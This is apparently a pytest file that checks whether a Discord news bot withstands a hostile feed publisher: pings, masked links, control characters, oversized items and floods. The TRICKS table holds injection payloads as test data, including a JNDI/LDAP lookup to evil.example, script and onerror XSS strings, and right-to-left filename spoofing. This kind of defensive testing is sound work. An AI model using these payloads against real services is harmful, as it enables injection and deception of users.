"""A publisher who means harm, seen from the channel: nobody is pinged, fooled or flooded, and honest items are told."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.discord_server import Message
from tests.discord_server.aim import aimed
from tests.discord_world import DiscordWorld
from tests.spine import Item, Spine, news

HONEST = news("honest", "The harbour working group met again.")
MEMBER = "<@{member}> <@&{role}>"
TRICKS = {
    "a ping of all": "@everyone @here",
    "a ping of a member and a role": MEMBER,
    "a ping behind a zero-width space": "@\u200beveryone <@\u200b{member}>",
    "a ping in full width": "＠everyone @everyone",
    "a ping over two lines": "@every\none <@\n{member}>",
    "a masked link": "[the official text](https://evil.example/a)",
    "a masked link with brackets": "[[x]](https://evil.example/a) [x\\](https://evil.example/b)",
    "a link that says another": "[https://www.state.gov](https://evil.example/a)",
    "a link in angles": "<https://evil.example/a>",
    "a bare link": "https://evil.example/a discord.gg/evil",
    "text turned round": "see \u202egnp.exe\u202c and \u2066x\u2069 and \u200f",
    "letters piled up": "a" + "\u0301" * 400,
    "a heading": "# Big\n## Big\n### Big",
    "small print and a quote": "-# small\n> quote\n>>> all of it",
    "a list": "- one\n* two\n1. three",
    "code": "```\nx\n``` `x` ``y``",
    "a spoiler": "||hidden|| **bold** __under__ ~~gone~~ *it*",
    "a time": "<t:1:R> <t:99999999999999:F>",
    "a channel, an emoji, a command": "<#{channel}> <:a:1> <a:b:2> </status:3>",
    "an ANSI colour": "\x1b[31mred\x1b[0m",
    "controls": "a\0b\x07c\x08d\u2028e\u2029f\ufeffg",
    "a lone half of a letter": "a&#xD83D;b",
    "our own button": "a:ABCDEFGHIJKLMNOPQRSTUVWXY",
    "a format": "{0.__class__} %s %n ${{jndi:ldap://evil.example/a}}",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a thousand words": "word " * 1000,
    "one word of ten thousand letters": "x" * 10_000,
}
MASKED = re.compile(r"(?<!\\)\[[^\]]*\]\((https?://[^)]*)\)")


@pytest.fixture
async def spine(tmp_path: Path, discord_world: DiscordWorld) -> AsyncIterator[Spine]:
    with aimed(discord_world.server):
        async with Spine(tmp_path, discord=discord_world) as spine:
            await spine.begin()
            yield spine


def words_of(message: Message) -> str:
    return message.content + json.dumps(message.embeds, ensure_ascii=False)


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS)
async def test_a_trick_in_every_field_fools_nobody(spine: Spine, discord_world: DiscordWorld, trick: str) -> None:
    world = discord_world
    given = (
        trick.replace("{member}", str(world.member.id))
        .replace("{role}", str(world.team_role.id))
        .replace("{channel}", str(world.health.id))
    )
    shown = "".join(
        sign for sign in given if sign.isprintable() or sign in "\n\u200b\u202e\u202c\u2066\u2069\u200f\ufeff"
    )
    spine.show(news("trick", f"{shown} The harbour working group met. {shown}", title=f"{shown} met {shown}"), HONEST)
    await spine.turn()
    messages = spine.messages()
    assert len(messages) == 2
    for message in messages:
        assert not message.pings
        assert len(message.content.splitlines()) == 1
        said = words_of(message)
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x1b]", said)
        links = MASKED.findall(
            " ".join([message.content, *(str(embed.get("description")) for embed in message.embeds)])
        )
        assert {link.split("/")[2] for link in links} <= {"news.example.org"}
        assert len([one for one in message.custom_ids if one.startswith("a:")]) == 1


OVERSIZE = {
    "a title of a megabyte": news("big", title="harbour " * 125_000),
    "a text of four megabytes": news("big", "The harbour working group met. " * 130_000),
    "one sentence of a megabyte": news("big", "The harbour working group met " * 33_000),
    "brackets without end": news("big", "The harbour working group met " + "[" * 500_000),
    "a guid of a megabyte": news("big", guid="g" * 1_000_000),
    "a link of a hundred thousand letters": news("big", link="https://news.example.org/" + "l" * 100_000),
}


@pytest.mark.parametrize("item", OVERSIZE.values(), ids=OVERSIZE)
async def test_what_is_too_large_is_cut_and_hinders_nobody(spine: Spine, item: Item) -> None:
    spine.show(item, HONEST)
    await spine.turn()
    await spine.turn()
    assert len(spine.messages()) == 2
    spine.show(item, HONEST, news("next", "The harbour working group parted.", hours_ago=0))
    await spine.turn()
    assert len(spine.messages()) == 3  # known for ever by its keys, however long they were


async def test_a_flood_of_items_becomes_few_messages_that_name_them_all(spine: Spine) -> None:
    spine.show(*(news(f"flood {number}", hours_ago=0) for number in range(300)))
    await spine.turn()
    for _ in range(20):
        await spine.turn(1)
    messages = spine.messages()
    told = [one for message in messages for one in message.custom_ids if one.startswith("a:")]
    assert len(told) == len(set(told)) == 300
    assert len(messages) < 30
